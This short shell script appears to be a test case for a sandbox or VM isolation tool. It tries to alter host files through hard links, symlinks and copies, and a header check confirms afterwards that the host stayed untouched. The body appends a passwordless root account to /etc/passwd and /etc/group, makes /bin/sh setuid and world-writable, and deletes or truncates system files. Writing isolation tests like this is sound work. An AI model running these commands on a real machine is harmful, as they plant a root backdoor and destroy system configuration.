# Change the host's files through hard links, symbolic links and copies that stay connected.
# vm: late
# outside: [ -x /usr/bin/env ] && [ ! -u /bin/sh ] && ! grep -q hacked /etc/passwd /etc/group /etc/hostname
ln /etc/passwd /tmp/p 2>/dev/null && echo hacked::0:0::/:/bin/sh >>/tmp/p
ln -s /etc/group /tmp/g && echo hacked::0: >>/tmp/g
cp --reflink=auto -a /etc/hostname /tmp/h && echo hacked >>/tmp/h
mv /usr/bin/env /usr/bin/env.old 2>/dev/null
rm -rf /usr/lib/os-release /etc/debian_version 2>/dev/null
chmod 4777 /bin/sh 2>/dev/null
truncate -s 0 /etc/hosts
true
